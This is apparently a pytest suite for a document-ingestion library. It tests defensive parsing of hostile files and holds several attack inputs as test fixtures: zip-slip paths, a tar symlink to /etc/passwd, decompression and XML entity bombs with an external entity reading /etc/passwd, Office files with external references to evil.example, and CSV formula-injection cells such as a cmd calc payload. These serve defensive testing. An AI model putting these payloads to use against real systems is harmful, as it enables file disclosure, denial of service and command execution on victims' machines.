"""Archives, and files that mean harm: inert, bounded, told."""

import gzip
import importlib.util
import io
import struct
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from firsthand.engine.work import families
from firsthand.model import CaseFacts
from firsthand.pipeline import Found
from firsthand.plugins import discover
from firsthand.readers import Incoming, Unreadable
from firsthand.readers.unpacking import MEMBER_LIMIT

READERS = discover("firsthand.readers", "READER")


def _samples():
    spec = importlib.util.spec_from_file_location("document_samples_there", Path(__file__).with_name("document_samples.py"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


made = _samples()


def read(name, data):
    incoming = Incoming(f"accounts/{name}", data, "src_1", "doc_1", CaseFacts(time_zone="Europe/London"))
    return max(sorted(READERS.values(), key=lambda r: r.name), key=lambda r: r.recognises(incoming)).read(incoming)


def told(reading):
    return " ".join(issue.message for issue in reading.issues)


def names(reading):
    return [member.name for member in reading.members]


def test_members_are_files_of_their_own_at_paths_below_the_archive():
    data = made.zipped({"notes/a.txt": "The ferry struck at 21:40.", "inner.zip": made.zipped({"b.txt": "Nobody was hurt."})})
    (family,) = families([Found("accounts/bundle.zip", data)], CaseFacts())
    assert [account.source.path for account in family] == [
        "accounts/bundle.zip", "accounts/bundle.zip!notes/a.txt", "accounts/bundle.zip!inner.zip", "accounts/bundle.zip!inner.zip!b.txt"
    ]  # fmt: skip
    assert [account.source.status for account in family] == ["read"] * 4
    assert family[3].source.parent == family[2].source.id


@pytest.mark.parametrize("name", ["bundle.tar", "bundle.tar.gz", "note.txt.bz2"])
def test_tar_files_and_compressed_files(name):
    data = next(data for _, file, data in made.samples() if file == name)
    assert read(name, data).members[0].data == b"The ferry struck."


@pytest.mark.parametrize("name", ["../../outside.txt", "/etc/outside.txt", "C:\\outside.txt", "a/../../outside.txt"])
@pytest.mark.parametrize("kind", ["zip", "tar"])
def test_a_path_that_climbs_out_is_refused_and_told(name, kind):
    parts = {name: b"x", "in.txt": b"The ferry struck."}
    reading = read(f"a.{kind}", made.zipped(parts) if kind == "zip" else made.tarred(parts))
    assert names(reading) == ["in.txt"]
    assert reading.status == "partly"
    assert "leads out of the archive" in told(reading)


def test_a_link_in_a_tar_file_is_not_followed():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("passwords.txt")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    reading = read("a.tar", out.getvalue())
    assert names(reading) == []
    assert "not followed" in told(reading)


def test_a_member_that_unpacks_to_very_much_is_left_alone():
    reading = read("bomb.zip", made.zipped({"bomb.txt": bytes(30_000_000), "in.txt": "The ferry struck."}))
    assert names(reading) == ["in.txt"]
    assert "200 times its size" in told(reading)


def test_a_compressed_bomb_is_left_alone():
    with pytest.raises(Unreadable, match="200 times"):
        read("bomb.gz", gzip.compress(bytes(30_000_000)))


def test_bombs_inside_bombs_end_at_a_depth():
    data = made.zipped({"end.txt": "The ferry struck."})
    for _ in range(9):
        data = made.zipped({"inner.zip": data})
    (family,) = families([Found("a.zip", data)], CaseFacts())
    assert len(family) == 6
    assert "deeper than 5 levels" in " ".join(issue.message for issue in family[-1].issues)


def test_a_million_tiny_members_are_not_listed_one_by_one():
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 1, 1, 1, 0) + b"a" + b"x"
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    wide = (
        b"PK\x06\x06"
        + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 10**6, 10**6, 0, 0)
        + b"PK\x06\x07"
        + struct.pack("<IQI", 0, 0, 1)
    )
    reading = read("many.zip", local * 20_000 + wide + end)
    assert len(reading.members) == MEMBER_LIMIT
    assert reading.status == "partly"
    assert "1,000,000 members" in reading.reason


def test_a_protected_member_is_told():
    data = bytearray(made.zipped({"secret.txt": "x"}))
    data[6] |= 1
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    assert "protected by a password" in told(read("a.zip", bytes(data)))


def test_a_zip_file_cut_short_gives_what_stands_before_the_cut():
    data = made.zipped({"a.txt": "The ferry struck.", "b.txt": "Nobody was hurt. " * 50})
    reading = read("cut.zip", data[: data.index(b"b.txt") + 10])
    assert names(reading)[0] == "a.txt"
    assert reading.status == "partly"


def test_names_of_members_cannot_play_nesting_or_hide():
    reading = read("a.zip", made.zipped({"a!b\x07.txt": "x"}))
    assert names(reading) == ["a_b_.txt"]


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol lol lol lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
)


def test_entities_of_xml_are_neither_expanded_nor_looked_up():
    body = f'<office:document {made.NS} office:mimetype="x"><office:body><office:text><text:p>Seen: &e; &x; by me.</text:p></office:text></office:body></office:document>'
    reading = read("a.fodt", (BOMB + body).encode())
    assert "lol" not in reading.text
    assert "root:" not in reading.text
    assert "by me." in reading.text


def test_a_document_that_points_outside_looks_nothing_up(monkeypatch):
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("a connection was opened"))
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    data = made.zipped({
        "word/document.xml": f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>I was on deck.</w:t></w:r></w:p></w:body></w:document>',
        "word/_rels/document.xml.rels": made.relations(("rId1", "attachedTemplate", "http://evil.example/t.dotm"), mode=' TargetMode="External"'),
        "word/settings.xml": "<x/>",
    })  # fmt: skip
    assert read("a.docx", data).text.strip() == "I was on deck."
    slides = made.zipped({
        "ppt/slides/slide1.xml": made.slide("Head", "I was on deck."),
        "ppt/slides/_rels/slide1.xml.rels": made.relations(("rId1", "notesSlide", "http://evil.example/n.xml"), mode=' TargetMode="External"'),
    })  # fmt: skip
    assert "I was on deck." in read("a.pptx", slides).text


def test_scripts_and_trackers_of_a_page_are_inert():
    page = made.PAGE.replace(
        "</article>",
        "<script>document.write('planted')</script><img src='http://track.example/x.gif' onload='x()'><iframe src='http://evil.example'></iframe></article>",
    )
    text = read("a.html", page.encode()).text
    assert "planted" not in text
    assert "track.example" not in text


def test_formulas_in_cells_stay_words():
    rows = b'time,unit,remarks\n21:40,B1,=HYPERLINK("http://evil.example")\n21:41,B1,"=cmd|\' /C calc\'!A0"\n21:42,B2,+1+1\n'
    reading = read("a.csv", rows)
    assert "=cmd|' /C calc'!A0" in reading.text


def test_cells_in_far_corners_do_not_fill_the_memory():
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    with pytest.raises(Unreadable, match="too far apart"):
        read("a.xlsx", made.zipped({"xl/workbook.xml": "<x/>", "xl/worksheets/sheet1.xml": sheet}))


def test_cells_in_far_corners_of_a_binary_sheet_do_not_fill_the_memory():
    row = b"\x00\x04" + struct.pack("<I", 1_000_000)
    cell = b"\x01\x08" + struct.pack("<II", 16_000, 0)
    with pytest.raises(Unreadable, match="too far apart"):
        read("a.xlsb", made.zipped({"xl/workbook.bin": b"x", "xl/worksheets/sheet1.bin": row + cell}))


def test_sectors_that_come_back_to_themselves_end():
    data = bytearray(made.xls(made.LOG_ROWS))
    table = len(data) - 512
    data[table : table + 4] = struct.pack("<I", 0)
    with pytest.raises(Unreadable, match="does not end"):
        read("a.xls", bytes(data))


def test_tables_that_would_be_larger_than_the_file_are_not_made_room_for():
    data = bytearray(made.msg())
    data[64:68] = struct.pack("<I", 2**31 + 1)
    with pytest.raises(Unreadable, match="larger than the file"):
        read("a.msg", bytes(data))


@pytest.mark.parametrize("blank", [" ", "\n", " \n", "\t"])
@pytest.mark.parametrize(
    "start", ["[5/8/25, 6:02:11 PM] Ada Penn: the pumps have stopped", "Q. Where?\nA. There.", "Ada: Where?"]
)
def test_very_many_blanks_do_not_keep_a_reader_busy(start, blank):
    began = time.process_time()
    read("a.txt", (start + "\n" + blank * 40_000 + "x\n" + start).encode())
    assert time.process_time() - began < 3


def test_deep_rich_text_ends():
    data = b"{\\rtf1 " + b"{" * 200_000 + b"deep" + b"}" * 200_000 + b" I was on deck.}"
    assert "I was on deck." in read("a.rtf", data).text


def test_a_spreadsheet_that_unpacks_to_very_much_is_left_alone(monkeypatch):
    monkeypatch.setattr("firsthand.readers.table_bounds.WHOLE_LIMIT", 3_000_000)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<x/>")
        for number in range(4):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", bytes(800_000))
    with pytest.raises(Unreadable, match="more than 3 MB"):
        read("a.xlsx", out.getvalue())
